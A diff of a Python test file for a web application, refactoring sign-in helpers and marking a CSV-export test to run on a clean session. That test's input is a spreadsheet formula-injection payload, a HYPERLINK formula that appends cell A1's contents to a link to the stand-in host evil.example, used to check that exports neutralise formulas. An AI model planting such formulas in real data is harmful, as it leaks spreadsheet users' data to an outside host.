@@ -10,16 +10,12 @@ from sqlalchemy import func, select
 
 from app.extensions import db
 from app.models import Case, Category, Channel, Person, Place
-from tests.lifecycle_helpers import sign_in, staff_people
+from tests.clients import attempt_sign_in, sign_in, signed_in
+from tests.lifecycle_helpers import staff_people
 
 pytestmark = pytest.mark.usefixtures("english_ui")
 
 VALID_ID = "11010519491231002X"
-
-
-@pytest.fixture()
-def login(db_app):
-    return lambda username, password="password": sign_in(db_app, username, password)
 
 
 def count(model) -> int:
@@ -239,9 +235,7 @@ def test_refresh_tokens_are_short_lived_and_revoked_at_logout(world, db_app):
 
 
 def _signs_in(db_app, password) -> bool:
-    response = db_app.test_client().post("/login/", data={"username": "clerkA",
-                                                          "password": password})
-    return response.status_code == 302 and "/login" not in response.headers["Location"]
+    return signed_in(attempt_sign_in(db_app, "clerkA", password))
 
 
 def test_changing_password_asks_for_the_current_one(world, db_app):
@@ -256,6 +250,7 @@ def test_changing_password_asks_for_the_current_one(world, db_app):
 
 # ---- 7. spreadsheet formulas in exports ------------------------------------------------
 
+@pytest.mark.clean_slate  # the CSV export reads on a session of its own
 def test_export_neutralises_formula_cells(world, login):
     person = world.people["A"]
     person.name_zh = '=HYPERLINK("http://evil.example/?"&A1,"x")'
